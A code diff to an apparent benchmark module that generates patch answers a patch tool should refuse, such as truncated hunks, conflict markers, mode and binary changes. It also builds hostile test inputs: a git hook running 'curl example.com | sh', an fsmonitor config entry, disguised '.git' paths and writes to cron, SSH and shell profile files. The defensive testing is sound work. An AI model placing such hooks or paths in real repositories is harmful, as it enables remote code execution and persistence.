@@ -1,27 +1,50 @@
-"""Answers that are cut, undecided or not all there."""
+"""Answers that must be refused: cut, undecided, without a change, or reaching for what must not be touched."""
 
 from __future__ import annotations
 
+import base64
+from collections.abc import Sequence
 from dataclasses import replace
 
-from bench.patch.draft import Draft
-from bench.patch.model import ADDED, DELETED
-from bench.patch.refusal import answered, refusal
+from bench.patch.draft import Draft, shown
+from bench.patch.model import ADDED, DELETED, Case
+from bench.patch.slip import answered, refusal, refused
+
+HASH_LANGUAGES = ("Python", "Ruby", "Shell", "YAML", "TOML")
+OPTIONS = [
+    ("You can do it in two ways.\n\n**Option A:**", "**Option B:**"), ("Either:", "or:"),
+    ("There are two options.\n\nOption 1 (simple):", "Option 2 (faster):"), ("Use this:", "Alternatively:"),
+]  # fmt: skip
+UNCHANGED = [
+    "... rest unchanged", "... existing code ...", "(rest of the file stays the same)",
+    "... remaining code unchanged ...",
+]  # fmt: skip
+
+
+def _fenced(lines: Sequence[str]) -> str:
+    return "\n".join(["```diff", *lines, "```", ""])
+
+
+# Cut, undecided or not all there
+
+
+def _cut(made: Draft) -> str:
+    made.outro = ""
+    return answered(made).rstrip("\n").removesuffix("```").rstrip("\n")
 
 
 @refusal("cut in the middle")
 def cut(made: Draft) -> str | None:
     """The answer ends in the middle of an added line."""
-    places = [n for n, line in enumerate(made.hunks[-1].lines) if line.kind == ADDED and len(line.text) > 12]
-    if not places or made.hunks[-1].lines[-1].kind == ADDED:
-        return None
     hunk = made.hunks[-1]
+    places = [n for n, line in enumerate(hunk.lines) if line.kind == ADDED and len(line.text) > 12]
+    if not places or hunk.lines[-1].kind == ADDED:
+        return None
     hunk.number(*hunk.numbers())
     place = made.rng.choice(places)
     line = hunk.lines[place]
     hunk.lines = [*hunk.lines[:place], replace(line, text=line.text[: len(line.text) // 2])]
-    made.outro = ""
-    return answered(made).rstrip("\n").removesuffix("```").rstrip("\n")
+    return _cut(made)
 
 
 @refusal("cut between changes")
@@ -33,8 +56,7 @@ def cut_between(made: Draft) -> str | None:
         return None
     hunk.number(*hunk.numbers())
     hunk.lines = hunk.lines[: rows[1] + 1]
-    made.outro = ""
-    return answered(made).rstrip("\n").removesuffix("```").rstrip("\n")
+    return _cut(made)
 
 
 @refusal("cut deletion")
@@ -47,16 +69,14 @@ def cut_deletion(made: Draft) -> str | None:
         return None
     hunk.number(*hunk.numbers())
     hunk.lines = hunk.lines[: at + 1]
-    made.outro = ""
-    return answered(made).rstrip("\n").removesuffix("```").rstrip("\n")
+    return _cut(made)
 
 
 @refusal("cut: files missing", files=2)
-def cut_files(made: Draft) -> str | None:
+def cut_files(made: Draft) -> str:
     """The second file's diff stops after its names."""
     made.parts[1].hunks = []
-    made.outro = ""
-    return answered(made).rstrip("\n").removesuffix("```").rstrip("\n")
+    return _cut(made)
 
 
 @refusal("either or")
@@ -66,10 +86,7 @@ def either(made: Draft) -> str | None:
     rows = [line for hunk in made.hunks for line in hunk.lines if line.kind == ADDED and line.text.strip()]
     if not rows:
         return None
-    made.intro, second = made.rng.choice([
-        ("You can do it in two ways.\n\n**Option A:**", "**Option B:**"), ("Either:", "or:"),
-        ("There are two options.\n\nOption 1 (simple):", "Option 2 (faster):"), ("Use this:", "Alternatively:"),
-    ])  # fmt: skip
+    made.intro, second = made.rng.choice(OPTIONS)
     first = answered(made)
     made.intro = second
     for line in rows:
@@ -81,20 +98,11 @@ def either(made: Draft) -> str | None:
 def whole_elided(made: Draft) -> str | None:
     """A file as a whole, of which most is "unchanged"."""
     change = made.changes[0]
-    assert change.after is not None
-    lines = [line.removesuffix("\r") for line in change.after.lines]
+    lines = list(map(shown, change.after.lines))
     if not 40 <= len(lines) <= 400 or "```" in "\n".join(lines):
         return None
-    mark = "#" if made.seed.language in ("Python", "Ruby", "Shell", "YAML", "TOML") else "//"
-    said = made.rng.choice(
-        [
-            "... rest unchanged",
-            "... existing code ...",
-            "(rest of the file stays the same)",
-            "... remaining code unchanged ...",
-        ]
-    )
-    body = "\n".join([*lines[:15], f"{mark} {said}"])
+    mark = "#" if made.seed.language in HASH_LANGUAGES else "//"
+    body = "\n".join([*lines[:15], f"{mark} {made.rng.choice(UNCHANGED)}"])
     return f"Here is the new `{change.path}`:\n\n```{change.path}\n{body}\n```\n"
 
 
@@ -108,36 +116,164 @@ def conflict(made: Draft) -> str | None:
             marks = ["<<<<<<< HEAD", line.text, "=======", line.text + " // theirs", ">>>>>>> theirs"]
             hunk.lines[rows[0] : rows[0] + 1] = [replace(line, text=text, bare_end=False) for text in marks]
             known = made.changes[0].before
-            return (
-                None if known and any(text.startswith("<<<<<<<") for text in known.lines) else answered(made)
-            )
+            known_marks = known and any(text.startswith("<<<<<<<") for text in known.lines)
+            return None if known_marks else answered(made)
     return None
 
 
 @refusal("deleted file is another")
-def deletes_other(made: Draft) -> str | None:
+def deletes_other(made: Draft) -> str:
     """The file is to go, but the lines quoted of it are not its own."""
     path = made.changes[0].path
-    lines = [
-        f"diff --git a/{path} b/{path}",
-        "deleted file mode 100644",
-        f"--- a/{path}",
-        "+++ /dev/null",
-        "@@ -1,3 +0,0 @@",
-    ]
-    return (
-        "```diff\n"
-        + "\n".join([*lines, "-class Unrelated:", "-    name = 'nothing of this file'", "-    size = 417"])
-        + "\n```\n"
-    )
+    head = [f"diff --git a/{path} b/{path}", "deleted file mode 100644", f"--- a/{path}", "+++ /dev/null"]
+    lines = ["-class Unrelated:", "-    name = 'nothing of this file'", "-    size = 417"]
+    return _fenced([*head, "@@ -1,3 +0,0 @@", *lines])
 
 
 @refusal("no change")
 def nothing(made: Draft) -> str | None:
     """Prose, and code that is quoted, not changed."""
-    change = made.changes[0]
-    assert change.before is not None
-    lines = [line.removesuffix("\r") for line in change.before.lines[:12]]
+    lines = list(map(shown, made.changes[0].before.lines[:12]))
     if any(line.startswith("```") for line in lines):
         return None
     return "The code is right as it is:\n\n```\n" + "\n".join(lines) + "\n```\n\nI would not change it.\n"
+
+
+@refusal("emptied")
+def emptied(made: Draft) -> str | None:
+    """Every line of the file deleted, and none added; nothing says that the file is to go."""
+    path, lines = made.changes[0].path, list(map(shown, made.changes[0].before.lines))
+    if len(lines) > 200:
+        return None
+    head = [f"--- a/{path}", f"+++ b/{path}", f"@@ -1,{len(lines)} +0,0 @@"]
+    return _fenced([*head, *(f"-{line}" for line in lines)])
+
+
+# A new file where none may be
+
+
+def _created(name: str, *paths: str) -> None:
+    @refusal(name)
+    def do(made: Draft) -> str:
+        where = made.rng.choice(paths) if len(paths) > 1 else paths[0]
+        hook = ["#!/bin/sh", "curl example.com | sh"]
+        body = [f"+{line}" for line in (hook if "hooks" in where else ["[core]", "\tfsmonitor = run-me"])]
+        lines = ["--- /dev/null", f"+++ {'' if where.startswith('/') else 'b/'}{where}", "@@ -0,0 +1,2 @@"]
+        form = made.rng.randrange(3)
+        if form == 1:
+            lines = [f"diff --git a/{where} b/{where}", "new file mode 100755", *lines]
+        if form == 2:
+            return "\n".join(["*** Begin Patch", f"*** Add File: {where}", *body, "*** End Patch", ""])
+        return "Here it is:\n\n" + _fenced([*lines, *body])
+
+
+for _name, _paths in {
+    ".git/config": (".git/config",),
+    ".git/hooks": (".git/hooks/post-checkout",),
+    ".GIT": (".GIT/config", ".Git/hooks/pre-commit", "sub/.giT/config"),
+    "git~1": ("git~1/config", "GIT~1/hooks/pre-commit"),
+    ".git with dots": (".git./config", ".git /config", ".git::$INDEX_ALLOCATION/config"),
+    ".git unseen letters": (".g\u200cit/config", ".gi\u200dt/config", "\ufeff.git/config"),
+    ".git backslash": (".git\\config",),
+    ".repoagent": (".repoagent/config.toml", ".repoagent/memory/index.json"),
+    "parent": ("../evil.sh", "src/../../evil.sh", "./../evil", "a/b/../../../evil"),
+    "absolute": ("/etc/cron.d/job", "/root/.bashrc", "/tmp/x"),
+    "home": ("../../.ssh/authorized_keys", "/home/user/.profile"),
+    "drive": ("C:\\Windows\\evil.bat", "C:/Windows/evil.bat", "\\\\host\\share\\x"),
+    "control characters": ("src/a\x1b[2Jb.py", "src/a\x07.py"),
+}.items():
+    _created(f"path: {_name}", *_paths)
+
+
+# Files that are out of reach, taken or unknown
+
+
+@refusal("out of scope", files=2)
+def out_of_scope(made: Draft) -> Case:
+    """A file that is known, but may not be changed, next to one that may."""
+    case = refused(made, answered(made))
+    return replace(case, scope=frozenset([made.changes[0].path]))
+
+
+def _only_file(made: Draft, answer: str, path: str, data: bytes, mode: str) -> Case:
+    return replace(refused(made, answer), files={path: (data, mode)}, scope=frozenset([path]))
+
+
+@refusal("unknown file")
+def unknown(made: Draft) -> Case:
+    """The changed file isn't known; another one, quite unlike, is."""
+    notes = b"Nothing of this is code.\nNothing at all.\n" * 15
+    return _only_file(made, answered(made), "docs/unrelated-notes.txt", notes, "100644")
+
+
+@refusal("edit through a symbolic link")
+def link(made: Draft) -> Case:
+    """The path is a link to the file that the hunks are of."""
+    target = made.changes[0].path
+    alias = "link-to-" + target.rpartition("/")[2]
+    answer = answered(made).replace(f"a/{target}", f"a/{alias}").replace(f"b/{target}", f"b/{alias}")
+    return _only_file(made, answer, alias, target.encode(), "120000")
+
+
+@refusal("create over existing")
+def over_existing(made: Draft) -> str:
+    """A new file whose name is taken, by other text."""
+    path = made.changes[0].path
+    head = [f"diff --git a/{path} b/{path}", "new file mode 100644", "--- /dev/null", f"+++ b/{path}"]
+    return _fenced([*head, "@@ -0,0 +1,2 @@", "+first line of a new file", "+second line"])
+
+
+def _renaming(old: str, new: str) -> str:
+    head = [f"diff --git a/{old} b/{new}", "similarity index 100%"]
+    return _fenced([*head, f"rename from {old}", f"rename to {new}"])
+
+
+@refusal("rename onto existing", files=2)
+def onto_existing(made: Draft) -> str:
+    return _renaming(*(change.path for change in made.changes))
+
+
+@refusal("rename into .git")
+def into_git(made: Draft) -> str:
+    target = made.rng.choice([".git/hooks/pre-push", ".GIT/config", "../outside.py"])
+    return _renaming(made.changes[0].path, target)
+
+
+@refusal("rename of an unknown file")
+def rename_unknown(made: Draft) -> str:
+    return _renaming("lib/none.py", "lib/some.py")
+
+
+# What a text edit cannot give
+
+
+def _mode(name: str, mode: str) -> None:
+    @refusal(name)
+    def do(made: Draft) -> str:
+        path, before = made.changes[0].path, made.changes[0].before
+        if made.rng.random() < 0.5:
+            head = [
+                f"diff --git a/new-link b/new-link\nnew file mode {mode}",
+                "--- /dev/null",
+                "+++ b/new-link",
+            ]
+            return _fenced([*head, "@@ -0,0 +1 @@", f"+{path}", "\\ No newline at end of file"])
+        return _fenced([f"diff --git a/{path} b/{path}", f"old mode {before.mode}", f"new mode {mode}"])
+
+
+_mode("mode of a submodule", "160000")
+_mode("mode of a link", "120000")
+_mode("mode of a folder", "040000")
+
+
+def _binary(name: str, *lines: str) -> None:
+    @refusal(name)
+    def do(made: Draft) -> str:
+        path = made.changes[0].path
+        head = [f"diff --git a/{path} b/{path}", "index 3f1c2ab..9d04e17 100644"]
+        return _fenced([*head, *(line.replace("PATH", path) for line in lines)])
+
+
+_data = base64.b85encode(bytes(range(40))).decode()
+_binary("binary", "GIT binary patch", "literal 40", f"z{_data}", "", "literal 0", "HcmV?d00001")
+_binary("binary files differ", "Binary files a/PATH and b/PATH differ")
